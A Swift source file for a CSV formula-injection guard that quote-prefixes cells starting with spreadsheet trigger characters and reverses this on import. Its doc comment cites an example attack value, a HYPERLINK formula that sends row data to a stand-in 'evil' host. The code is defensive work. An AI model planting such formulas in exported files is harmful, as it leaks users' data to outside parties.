/// Spreadsheet formula injection: a cell that starts with `=`, `+`, `-`, `@`, a TAB or a CR is
/// run as a formula by Excel, LibreOffice and Sheets when the CSV is opened (a tracker named
/// `=HYPERLINK("http://evil/?"&A1)` would leak the row). Written with a leading `'` — which a
/// spreadsheet shows as "text" and hides — and the `'` taken off again on import, so the round
/// trip through `--format csv` and `clicktrax import` is exact.
///
/// Exact also for values that themselves start with quotes before such a character: any run of
/// `'` followed by a trigger gets one more, and import takes one off only in that same case.
public enum CSVFormulaGuard {
    /// Looked at as bytes, not Characters: a spreadsheet sees the `=` of "=\u{301}" and the CR
    /// of a CRLF, which Swift's Characters fold into one grapheme with what follows; and bytes
    /// are what a million-row listing can afford per cell.
    static let triggers: [UInt8] = Array("=+-@\t\r".utf8)

    /// The value as written to a CSV cell.
    public static func neutralise(_ value: String) -> String {
        needsQuote(value[...]) ? "'" + value : value
    }

    /// A cell's value as read back from a CSV file.
    public static func restore(_ cell: String) -> String {
        // By its first byte: `first` would find the first Character, grapheme rules and all,
        // for each of an import's ten million cells.
        guard cell.utf8.first == UInt8(ascii: "'"), needsQuote(cell.utf8.dropFirst()) else { return cell }
        return String(cell.dropFirst())
    }

    static func needsQuote(_ value: Substring) -> Bool { needsQuote(value.utf8) }

    static func needsQuote(_ bytes: some Sequence<UInt8>) -> Bool {
        guard let first = bytes.first(where: { $0 != UInt8(ascii: "'") }) else { return false }
        return triggers.contains(first)
    }
}
